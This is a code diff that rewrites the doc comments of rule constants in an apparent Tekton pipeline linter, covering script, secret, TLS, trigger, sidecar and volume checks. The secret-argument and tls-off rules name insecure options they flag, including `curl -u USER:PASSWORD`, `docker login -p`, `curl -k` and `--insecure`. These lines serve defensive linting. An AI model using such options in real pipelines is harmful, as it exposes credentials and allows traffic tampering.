 const RuleInvalid = "rule-invalid"
 
-// ScriptUnrunnable is script-unrunnable: the kernel does not find the
-// interpreter of a script.
+// ScriptUnrunnable is script-unrunnable: the kernel cannot find the interpreter
+// of a script.
 //
-// Tekton takes a script that begins with `#!`, blanks aside, as it is. But the
-// kernel wants `#!` at the very beginning, and takes a carriage return at the
-// end of the line for a part of the interpreter's name. The step fails with
-// `exec format error` or `no such file or directory`.
+// Tekton leaves a script that begins with `#!` unchanged, even if white space
+// comes first. But the kernel needs `#!` at the very beginning, and reads a
+// carriage return at the end of the line as part of the interpreter's name. The
+// step fails with `exec format error` or `no such file or directory`.
 //
-// Begin the script with `#!`, and end its lines with line feeds only.
+// Begin the script with `#!`, and use LF line endings.
 //
 // Severity: error. Topic: steps.
 const ScriptUnrunnable = "script-unrunnable"
 
-// SecretArgument is secret-argument: a secret is an argument of a command.
+// SecretArgument is secret-argument: a secret is passed as a command-line
+// argument.
 //
-// What stands on a command line is seen in the list of processes, in the log of
-// a shell with `set -x`, in messages of errors; git writes the password of an
-// URL to `.git/config`, which other tasks read. Reported are `docker login -p`
-// and its like, `curl -u USER:PASSWORD`, and URLs with a password.
+// Command-line arguments are visible in the process list, in the log of a shell
+// with `set -x`, and in error messages. Git writes the password of a URL to
+// `.git/config`, which other tasks can read. The rule reports `docker login -p`
+// and similar commands, `curl -u USER:PASSWORD`, and URLs with a password.
 //
 // Pass secrets through stdin (`--password-stdin`), a file (`--netrc-file`, a
 // mounted `config.json`) or a credential helper.
@@ -1378,14 +1396,14 @@ const SecretKeyMissing = "secret-key-missing"
 // Severity: error. Topic: objects.
 const SecretKeyUnknown = "secret-key-unknown"
 
-// SecretPlain is secret-plain: a secret is written out in plain text.
+// SecretPlain is secret-plain: a secret is stored in plain text.
 //
-// A Secret with its values, a variable or a param that is called like a secret
-// and has one: who can read the file, or its history, has the secret. In base64
-// it is no more hidden.
+// The file contains a Secret with its values, or a variable or param that is
+// named like a secret and has a value. Anyone who can read the file, or its
+// history, has the secret. Base64 does not hide it.
 //
-// Keep Secrets out of the files (make them with `kubectl create secret`, or
-// from a store), and take variables from them with secretKeyRef.
+// Keep Secrets out of the files (create them with `kubectl create secret`, or
+// from a secret store), and set variables from them with secretKeyRef.
 //
 // Severity: warning. Topic: practice.
 const SecretPlain = "secret-plain"
@@ -1396,7 +1414,7 @@ const SecretPlain = "secret-plain"
 // its variables. Here one of them comes from a Secret. Logs are kept longer,
 // and read by more people, than Secrets.
 //
-// Drop `-x`, or write `set +x` before the secret is used.
+// Remove `-x`, or write `set +x` before the secret is used.
 //
 // Severity: warning. Topic: practice.
 const SecretTraced = "secret-traced"
@@ -1414,15 +1432,15 @@ const SecretTraced = "secret-traced"
 // Severity: error. Topic: objects.
 const SecretUnknown = "secret-unknown"
 
-// SecurityInvalid is security-invalid: a security context names what does not
-// exist.
+// SecurityInvalid is security-invalid: a security context uses an unknown
+// profile type or capability.
 //
-// The types of seccomp and AppArmor profiles are RuntimeDefault, Localhost and
-// Unconfined; the API server refuses a pod with another one. A container that
-// adds a capability which does not exist is not started by some runtimes, such
-// as CRI-O; others, such as containerd, start it without the one that was
-// meant. One that drops such a capability keeps the one that was meant: that is
-// a warning.
+// Seccomp and AppArmor profiles have the types RuntimeDefault, Localhost and
+// Unconfined; the API server rejects a pod with any other. Some runtimes, such
+// as CRI-O, do not start a container that adds an unknown capability. Others,
+// such as containerd, start it without the capability that was meant. A
+// container that drops an unknown capability keeps the one that was meant,
+// which is a warning.
 //
 // Correct the name.
 //
@@ -1432,9 +1450,9 @@ const SecurityInvalid = "security-invalid"
 // SelectorInvalid is selector-invalid: a selector of an EventListener selects
 // nothing.
 //
-// A label selector that cannot be read fails every event. The namespace "*"
-// means all of them only if it stands alone: beside others, it is a name that
-// none has, which is a warning.
+// A label selector that is not valid fails every event. The namespace "*" means
+// all namespaces only if it is the only entry. Next to others it is a name that
+// no namespace has, which is a warning.
 //
 // Severity: error. Topic: triggers.
 const SelectorInvalid = "selector-invalid"
@@ -1492,24 +1510,24 @@ const ServiceAccountExternal = "serviceaccount-external"
 // Severity: error. Topic: objects.
 const ServiceAccountUnknown = "serviceaccount-unknown"
 
-// ShellVariableUnknown is shell-variable-unknown: a script reads a variable of
-// another name than is set.
+// ShellVariableUnknown is shell-variable-unknown: a script reads a variable
+// whose name looks misspelled.
 //
-// A script reads a variable that nothing sets, while `env` sets one of nearly
-// that name that the script does not read. The shell reads an empty text, or
-// ends under `set -u`.
+// The script reads a variable that nothing sets, while `env` sets one with a
+// similar name that the script does not read. The shell expands the variable to
+// an empty string, or fails under `set -u`.
 //
-// Write the same name in both. Nothing is said where no name is near: variables
-// may come from the image, and be read by programs.
+// Use the same name in both. Other variables are not reported: they may come
+// from the image, or be read by programs.
 //
 // Severity: warning. Topic: practice.
 const ShellVariableUnknown = "shell-variable-unknown"
 
-// SidecarDuplicate is sidecar-duplicate: two sidecars, or settings for one
-// sidecar, have one name.
+// SidecarDuplicate is sidecar-duplicate: two sidecars or sidecarSpecs have the
+// same name.
 //
-// Tekton admits two sidecars of one name, or two without a name. Their
-// containers get one name, and the API server refuses the pod
+// Tekton admits two sidecars with the same name, or two without a name. Their
+// containers get the same name, and the API server rejects the pod
 // (`PodCreationFailed`).
 //
 // Rename one of them.
@@ -1517,10 +1535,10 @@ const ShellVariableUnknown = "shell-variable-unknown"
 // Severity: error. Topic: steps.
 const SidecarDuplicate = "sidecar-duplicate"
 
-// SidecarUnknown is sidecar-unknown: sidecarSpecs names a sidecar that is not
-// there.
+// SidecarUnknown is sidecar-unknown: sidecarSpecs refers to a sidecar that does
+// not exist.
 //
-// A run that sets resources for a sidecar which its Task does not have fails
+// A run that sets resources for a sidecar that its Task does not declare fails
 // (`TaskRunValidationFailed`).
 //
 // Correct the name.
@@ -1559,24 +1577,24 @@ const SpecMissing = "spec-missing"
 // Severity: error. Topic: runs.
 const StatusInvalid = "status-invalid"
 
-// StepConflict is step-conflict: a step, sidecar or StepAction sets fields that
-// exclude each other.
+// StepConflict is step-conflict: a step, sidecar or StepAction sets mutually
+// exclusive fields.
 //
-// A script is the command of its container, so that it excludes command. A step
-// with a ref takes image, command, args, script, workingDir, env, volumeMounts
-// and results from its StepAction, and a step without one has no params. Tekton
-// refuses these. A securityContext beside a ref is ignored: that is a warning.
+// A script is the command of its container, so script and command are mutually
+// exclusive. A step with a ref gets image, command, args, script, workingDir,
+// env, volumeMounts and results from its StepAction, and a step without a ref
+// has no params. Tekton rejects any such combination. A securityContext in a
+// step with a ref is ignored, which is a warning.
 //
 // Keep one of the two.
 //
 // Severity: error. Topic: steps.
 const StepConflict = "step-conflict"
 
-// StepDuplicate is step-duplicate: two steps, or settings for one step, have
-// one name.
+// StepDuplicate is step-duplicate: two steps or stepSpecs have the same name.
 //
-// A step is a container, and names of containers are unique in a pod: Tekton
-// refuses two steps of one name, and two stepSpecs for one step.
+// A step is a container, and container names are unique in a pod. Tekton
+// rejects two steps with the same name, and two stepSpecs for the same step.
 //
 // Rename one of them.
 //
@@ -1585,7 +1603,7 @@ const StepDuplicate = "step-duplicate"
 
 // StepMissing is step-missing: a Task has no steps.
 //
-// Tekton refuses a Task without steps.
+// Tekton rejects a Task without steps.
 //
 // Severity: error. Topic: steps.
 const StepMissing = "step-missing"
@@ -1600,13 +1618,14 @@ const StepMissing = "step-missing"
 // Severity: error. Topic: results.
 const StepOrder = "step-order"
 
-// StepUnknown is step-unknown: a step is named that is not there.
+// StepUnknown is step-unknown: a variable or stepSpecs refers to a step that
+// does not exist.
 //
-// `$(steps.NAME.results.RESULT)` of a step that the Task does not have stays as
-// it is: the step that reads it says so in its log, and runs; a result of the
-// Task that takes it stays empty. `stepSpecs` of a run for such a step fail it
-// (`TaskRunValidationFailed`). An exit code is named by the container:
-// `$(steps.step-NAME.exitCode.path)`.
+// Tekton does not replace `$(steps.NAME.results.RESULT)` if the Task has no
+// such step. The step that reads it logs that, and runs with the literal text;
+// a Task result that reads it stays empty. A run with `stepSpecs` for such a
+// step fails (`TaskRunValidationFailed`). The variable for an exit code uses
+// the name of the container: `$(steps.step-NAME.exitCode.path)`.
 //
 // Correct the name.
 //
@@ -1733,37 +1752,39 @@ const TaskMissing = "task-missing"
 // Severity: error. Topic: objects.
 const TaskUnknown = "task-unknown"
 
-// TemplateBody is template-body: what a template creates is no object.
+// TemplateBody is template-body: a resource template is not a Kubernetes
+// object.
 //
-// Each item of resourcetemplates is one object, with apiVersion and kind:
-// Tekton refuses others.
+// Each item of resourcetemplates is one object, with apiVersion and kind.
+// Tekton rejects anything else.
 //
 // Severity: error. Topic: triggers.
 const TemplateBody = "template-body"
 
-// TemplateExternal is template-external: a TriggerTemplate is not among the
-// objects.
+// TemplateExternal is template-external: the TriggerTemplate is not among the
+// checked files.
 //
-// A trigger refers to a TriggerTemplate that is not in the set. Whether the
-// cluster has it cannot be known offline. If it is not there, no event starts
-// anything, and only the log of the listener says so.
+// A trigger refers to a TriggerTemplate that is not among the checked files.
+// Whether it exists in the cluster cannot be known offline. If it does not,
+// events start nothing, and only the log of the EventListener shows why.
 //
-// Nothing is to be done if it is made by other means: list it in the profile
-// under `exists`. In a set that is complete, this is the error
-// template-unknown.
+// If it is created by other means, list it in the profile under `exists`. If
+// the profile is complete, the finding is the error template-unknown.
 //
 // Severity: note. Topic: triggers.
 const TemplateExternal = "template-external"
 
 // TemplateUnknown is template-unknown: a trigger refers to a TriggerTemplate
-// that is not there.
+// that does not exist.
 //
-// A trigger refers to a TriggerTemplate that is not among the objects, which
-// are all there is. It is looked for in the namespace of the trigger. The
-// listener looks it up when an event arrives: the event has been answered with
-// 202 by then, so that only the log of the listener says why nothing starts.
-// Where the set is not complete, it is a warning if one letter leads to a name
-// of the set, and otherwise the note template-external.
+// A trigger refers to a TriggerTemplate that is not among the checked files.
+// Tekton looks for it in the namespace of the trigger when an event arrives.
+// The EventListener has already answered with 202 by then, so only its log
+// shows why nothing starts.
+//
+// The finding is an error if the profile is complete, a warning if the name is
+// one letter away from that of a checked TriggerTemplate, and otherwise the
+// note template-external.
 //
 // Correct the name, or add the object.
 //
@@ -1800,50 +1821,53 @@ const TimeoutInvalid = "timeout-invalid"
 
 // TLSMissing is tls-missing: an Ingress is served without TLS.
 //
-// Anyone on the way can read and change what is sent, the secrets of webhooks
-// included. A host that is not listed under tls is served without it, too.
+// Anyone on the network path can read and change the traffic, including the
+// secrets of webhooks. A host that is not listed under tls is served without
+// TLS as well.
 //
-// List the hosts, and a certificate, under tls. Annotations of cert-manager and
-// of cloud providers' certificates count.
+// List the hosts and a certificate under tls. Annotations of cert-manager and
+// for the certificates of cloud providers count too.
 //
 // Severity: warning. Topic: practice.
 const TLSMissing = "tls-missing"
 
-// TLSOff is tls-off: TLS, or the check of certificates, is switched off.
+// TLSOff is tls-off: TLS or certificate verification is turned off.
 //
-// Without TLS, or with certificates that nobody checks, anyone on the way can
-// read the credentials and change the image, the chart or the source. Reported
-// are options such as `--insecure`, `--skip-tls-verify`, `--tls-verify=false`
-// and `curl -k`, also as values of params; settings such as
-// `http.sslVerify=false`, `GIT_SSL_NO_VERIFY` and an empty
+// Without TLS or certificate verification, anyone on the network path can read
+// the credentials and change the image, the chart or the source. The rule
+// reports options such as `--insecure`, `--skip-tls-verify`,
+// `--tls-verify=false` and `curl -k`, also in values of params; settings such
+// as `http.sslVerify=false`, `GIT_SSL_NO_VERIFY` and an empty
 // `DOCKER_TLS_CERTDIR`; and a Docker daemon on port 2375. A registry on
 // localhost is not reported.
 //
-// Give the tool the authority that signed the certificate, from a workspace
-// bound to a ConfigMap.
+// Give the tool the CA certificate, from a workspace bound to a ConfigMap.
 //
 // Severity: warning. Topic: practice.
 const TLSOff = "tls-off"
 
-// TriggerExternal is trigger-external: a Trigger is not among the objects.
+// TriggerExternal is trigger-external: the Trigger is not among the checked
+// files.
 //
-// An EventListener refers to a Trigger that is not in the set. Whether the
-// cluster has it cannot be known offline. If it is not there, no event starts
-// anything, and only the log of the listener says so.
+// An EventListener refers to a Trigger that is not among the checked files.
+// Whether it exists in the cluster cannot be known offline. If it does not,
+// events start nothing, and only the log of the EventListener shows why.
 //
-// Nothing is to be done if it is made by other means: list it in the profile
-// under `exists`. In a set that is complete, this is the error trigger-unknown.
+// If it is created by other means, list it in the profile under `exists`. If
+// the profile is complete, the finding is the error trigger-unknown.
 //
 // Severity: note. Topic: triggers.
 const TriggerExternal = "trigger-external"
 
 // TriggerUnknown is trigger-unknown: an EventListener refers to a Trigger that
-// is not there.
+// does not exist.
 //
-// An EventListener refers to a Trigger that is not among the objects, which are
-// all there is. It is looked for in the namespace of the listener, and skipped:
-// only the log of the listener says so. Where the set is not complete, it is a
-// warning if one letter leads to a name of the set, and otherwise the note
+// An EventListener refers to a Trigger that is not among the checked files.
+// Tekton looks for it in the namespace of the EventListener. If it does not
+// exist, Tekton skips it, and only the log of the EventListener shows it.
+//
+// The finding is an error if the profile is complete, a warning if the name is
+// one letter away from that of a checked Trigger, and otherwise the note
 // trigger-external.
 //
 // Correct the name, or add the Trigger.
@@ -1987,65 +2011,69 @@ const VersionRemoved = "version-removed"
 // Severity: error. Topic: versions.
 const VersionUnknown = "version-unknown"
 
-// VolumeConflict is volume-conflict: a task would mount two claims.
+// VolumeConflict is volume-conflict: a task would mount two
+// PersistentVolumeClaims.
 //
-// Tekton's affinity assistant keeps the tasks that share a claim on one node,
-// and so a task may mount one claim only: with two the run fails
-// (`TaskRunValidationFailed`, "more than one PersistentVolumeClaim is bound").
-// That holds for the flag coschedule at `workspaces`, its default.
+// Tekton's affinity assistant keeps the tasks that share a
+// PersistentVolumeClaim on one node, so a task can mount only one. With two the
+// run fails (`TaskRunValidationFailed`, "more than one PersistentVolumeClaim is
+// bound"). This applies while the flag coschedule is `workspaces`, which is the
+// default.
 //
-// Put both on one claim with a subPath each, or change the flag.
+// Bind both workspaces to one PVC with a subPath each, or change the flag.
 //
 // Severity: error. Topic: volumes.
 const VolumeConflict = "volume-conflict"
 
 // VolumeDaemon is volume-daemon: a container engine keeps its data on a shared
-// claim.
+// PersistentVolumeClaim.
 //
-// A claim that a Task names under volumes is the same one in every run. A
-// Docker daemon takes `/var/lib/docker` for its own: two daemons on it at once
-// spoil each other's files, and each run sees, and may push, the images of the
-// others.
+// A PersistentVolumeClaim that a Task lists under volumes is the same one in
+// every run. A Docker daemon expects to be the only user of `/var/lib/docker`:
+// two daemons at once corrupt each other's files, and each run sees, and may
+// push, the images of the others.
 //
-// Give it an emptyDir, and keep the cache in a registry.
+// Use an emptyDir, and keep the cache in a registry.
 //
 // Severity: warning. Topic: practice.
 const VolumeDaemon = "volume-daemon"
 
-// VolumeDuplicate is volume-duplicate: two volumes have one name.
+// VolumeDuplicate is volume-duplicate: two volumes have the same name.
 //
-// Names of volumes are unique in a pod. Tekton refuses two of one name.
+// Volume names are unique in a pod. Tekton rejects two volumes with the same
+// name.
 //
 // Severity: error. Topic: volumes.
 const VolumeDuplicate = "volume-duplicate"
 
 // VolumeInvalid is volume-invalid: a volume has several sources, or none.
 //
-// The API server refuses a pod with such a volume (`PodCreationFailed`). One
-// without a source becomes an empty folder: that is a warning.
+// The API server rejects a pod with a volume that has several sources
+// (`PodCreationFailed`). A volume without a source becomes an empty directory,
+// which is a warning.
 //
-// Keep one source. For an empty folder write `emptyDir: {}`.
+// Keep one source. For an empty directory, write `emptyDir: {}`.
 //
 // Severity: error. Topic: volumes.
 const VolumeInvalid = "volume-invalid"
 
-// VolumeNode is volume-node: tasks that may run on two nodes share a claim of
-// one node.
+// VolumeNode is volume-node: tasks that may run on different nodes share a
+// single-node volume.
 //
-// With the flag coschedule at `disabled`, nothing keeps the tasks of a run
-// together. A ReadWriteOnce volume is attached to one node: a task that lands
-// on another one waits until the first is done, or until it times out.
+// With the flag coschedule set to `disabled`, Tekton does not keep the tasks of
+// a run on one node. A ReadWriteOnce volume is attached to a single node: a
+// task on another node waits until the first is done, or until it times out.
 //
 // Request ReadWriteMany, or order the tasks.
 //
 // Severity: warning. Topic: volumes.
 const VolumeNode = "volume-node"
 
-// VolumeUnknown is volume-unknown: a volume is mounted that is not declared.
+// VolumeUnknown is volume-unknown: a mounted volume is not declared.
 //
-// Tekton admits the Task, and the API server refuses its pod
-// (`PodCreationFailed`) unless the pod template of the run brings the volume.
-// Where the run is known, it is an error.
+// Tekton admits the Task, but the API server rejects its pod
+// (`PodCreationFailed`) unless the pod template of the run adds the volume. If
+// the run is known, this is an error.
 //
 // Correct the name, or declare the volume.
 //
